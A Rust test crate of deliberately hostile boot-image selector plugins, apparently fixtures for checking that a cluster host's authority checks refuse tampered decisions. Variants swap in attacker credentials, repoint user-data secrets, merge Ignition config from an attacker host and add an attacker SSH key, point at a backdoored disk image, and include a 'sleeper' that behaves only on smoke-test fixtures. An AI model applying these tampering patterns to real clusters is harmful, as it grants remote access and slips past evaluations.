//! Boot image guests that overstep on purpose. Each build (one feature, see
//! Cargo.toml) takes the decision an honest guest would take — the stream's
//! image for the MachineSet's architecture and region — and changes it in
//! one way the host must refuse. The host's authority checks
//! (`host/src/bootimage/authority.rs`) are what stop them; this crate only
//! needs the real WIT and the stream model.

// Each feature uses a different part, so most helpers are unused in any one build.
#[cfg(target_arch = "wasm32")]
#[allow(dead_code, unused_variables, unused_mut)]
mod hostile {
    use base64::Engine as _;
    use exports::mco::machine_config::boot_image as wit;
    use mco_bootimage::serde_json::{self, Value, json};
    use mco_bootimage::{MachineSetView, Stream, arch, load_stream};

    wit_bindgen::generate!({ world: "boot-image-selector", path: "../../wit" });

    struct Hostile;

    struct LoadedStream(Result<Stream, String>);

    impl wit::GuestCoreosStream for LoadedStream {
        fn new(json: Option<String>) -> Self {
            LoadedStream(load_stream(json.as_deref()))
        }
    }

    const UPGRADED_TO: &str = "machineconfiguration.openshift.io/stub-ignition-upgraded-to";

    impl wit::Guest for Hostile {
        type CoreosStream = LoadedStream;

        fn decide(
            metadata: wit::CoreosStreamBorrow<'_>,
            ms: wit::MachineSet,
            cluster: wit::Cluster,
            user_data: Option<String>,
        ) -> wit::Decision {
            let stream: &LoadedStream = metadata.get();
            match decide(&stream.0, ms, cluster, user_data) {
                Ok(decision) => decision,
                Err(message) => wit::Decision::Error(format!("hostile guest: {message}")),
            }
        }
    }

    fn decide(
        stream: &Result<Stream, String>,
        ms: wit::MachineSet,
        cluster: wit::Cluster,
        user_data: Option<String>,
    ) -> Result<wit::Decision, String> {
        let stream = stream.as_ref().map_err(Clone::clone)?;
        let spec: Value = serde_json::from_str(ms.provider_spec.as_deref().unwrap_or("{}"))
            .map_err(|e| e.to_string())?;
        let view = MachineSetView {
            kind: Default::default(),
            name: ms.name.clone(),
            namespace: ms.namespace.clone(),
            labels: ms.labels.iter().cloned().collect(),
            annotations: ms.annotations.iter().cloned().collect(),
            owner_references: ms.owner_references.clone(),
            template_labels: ms.template_labels.iter().cloned().collect(),
            provider_spec: Some(spec.clone()),
        };
        let arch = arch::machineset_arch(&view, &cluster.control_plane_arch, cluster.multi_arch)
            .map_err(|e| e.to_string())?;
        let secret = view
            .user_data_secret_name()
            .ok()
            .flatten()
            .unwrap_or("worker-user-data")
            .to_owned();
        let (target, mut fragment) = honest(stream, &arch, &spec)?;
        let mut upgrade = None;
        // `sleeper` behaves on the host's smoke fixture (`smoke-*`) and
        // oversteps everywhere else: smoke evaluations cannot catch it,
        // only the checks on every decision can.
        if !(cfg!(feature = "sleeper") && ms.name.starts_with("smoke-")) {
            tamper(&mut fragment, &mut upgrade, &secret, user_data.as_deref());
        }
        let patch = json!({"spec": {"template": {"spec": {"providerSpec": {"value": fragment}}}}});
        #[cfg(feature = "not-an-object")]
        let patch = json!([{"op": "replace", "path": "/spec/template/spec/providerSpec/value/ami/id", "value": target}]);
        Ok(wit::Decision::Patch(wit::Patch {
            target,
            merge_patch: patch.to_string(),
            user_data_secret: upgrade,
        }))
    }

    /// The patch an honest guest of the platform this build pretends to be
    /// would propose.
    fn honest(stream: &Stream, arch: &str, spec: &Value) -> Result<(String, Value), String> {
        if cfg!(any(feature = "gcp-data-disk", feature = "gcp-reorder")) {
            let target = stream.gcp_image_path(arch).map_err(|e| e.to_string())?;
            let mut disks = spec.get("disks").cloned().unwrap_or(json!([]));
            for disk in disks.as_array_mut().into_iter().flatten() {
                if disk.get("boot").and_then(Value::as_bool) == Some(true) {
                    disk["image"] = json!(target);
                }
            }
            return Ok((target, json!({"disks": disks})));
        }
        if cfg!(feature = "azure-outside-image") {
            let image = stream
                .azure_marketplace(arch)
                .and_then(|m| m.no_purchase_plan.as_ref())
                .and_then(|s| s.hyper_v_gen2.as_ref())
                .ok_or("no Azure image")?;
            let target = format!(
                "{}:{}:{}:{}",
                image.publisher, image.offer, image.sku, image.version
            );
            return Ok((
                target,
                json!({"image": {"publisher": image.publisher, "offer": image.offer, "sku": image.sku,
                    "version": image.version, "resourceID": "", "type": "MarketplaceNoPlan"}}),
            ));
        }
        let region = spec
            .pointer("/placement/region")
            .and_then(Value::as_str)
            .unwrap_or("");
        let target = stream
            .aws_region_image(arch, region)
            .map_err(|e| e.to_string())?
            .image
            .clone();
        Ok((
            target.clone(),
            json!({"ami": {"id": target, "arn": null, "filters": null}}),
        ))
    }

    fn stub(config: Value) -> String {
        base64::engine::general_purpose::STANDARD.encode(config.to_string())
    }

    fn upgrade_for(name: &str, config: Value) -> Option<wit::UserDataUpgrade> {
        Some(wit::UserDataUpgrade {
            name: name.to_owned(),
            user_data: stub(config),
            annotations: vec![(UPGRADED_TO.to_owned(), "3.5.0".to_owned())],
        })
    }

    #[allow(unused_variables, unused_mut)]
    fn tamper(
        fragment: &mut Value,
        upgrade: &mut Option<wit::UserDataUpgrade>,
        secret: &str,
        user_data: Option<&str>,
    ) {
        // The honest conversion of the stub the host passed, if any.
        let honest = user_data.and_then(|text| match mco_bootimage::ignition::upgrade_stub(text) {
            Ok(mco_bootimage::ignition::StubUpgrade::Converted(v3)) => {
                serde_json::from_str::<Value>(&v3).ok()
            }
            _ => None,
        });
        let _ = &honest;
        #[cfg(any(feature = "instance-type", feature = "sleeper"))]
        {
            fragment["instanceType"] = json!("m5.metal");
            fragment["credentialsSecret"] = json!({"name": "attacker-credentials"});
        }
        #[cfg(feature = "repoint-user-data")]
        {
            fragment["userDataSecret"] = json!({"name": "master-user-data"});
        }
        // These two wait for the host's second round, which carries the
        // stub, as an honest guest does.
        #[cfg(feature = "foreign-secret")]
        if user_data.is_some() {
            *upgrade = upgrade_for(
                "aws-cloud-credentials",
                honest.unwrap_or(json!({"ignition": {"version": "3.5.0"}})),
            );
        }
        #[cfg(feature = "foreign-merge")]
        if user_data.is_some() {
            *upgrade = upgrade_for(
                secret,
                json!({
                    "ignition": {"version": "3.5.0", "config": {"merge": [{"source": "https://ignition.attacker.example/worker"}]}},
                    "passwd": {"users": [{"name": "core", "sshAuthorizedKeys": ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHostileKey attacker"]}]}
                }),
            );
        }
        #[cfg(feature = "stub-without-user-data")]
        {
            *upgrade = upgrade_for(
                secret,
                json!({"ignition": {"version": "3.5.0", "config": {"merge": [{"source": "https://api-int.example:22623/config/worker"}]}}}),
            );
        }
        #[cfg(feature = "unknown-ami")]
        {
            fragment["ami"]["id"] = json!("ami-0badc0ffee0000000");
        }
        #[cfg(feature = "gcp-data-disk")]
        for disk in fragment["disks"].as_array_mut().into_iter().flatten() {
            if disk.get("boot").and_then(Value::as_bool) != Some(true) {
                disk["image"] = json!("projects/attacker/global/images/backdoored-data");
            }
        }
        #[cfg(feature = "gcp-reorder")]
        if let Some(disks) = fragment["disks"].as_array_mut() {
            disks.reverse();
        }
        #[cfg(feature = "azure-outside-image")]
        {
            fragment["vmSize"] = json!("Standard_D96s_v5");
        }
    }

    export!(Hostile);
}
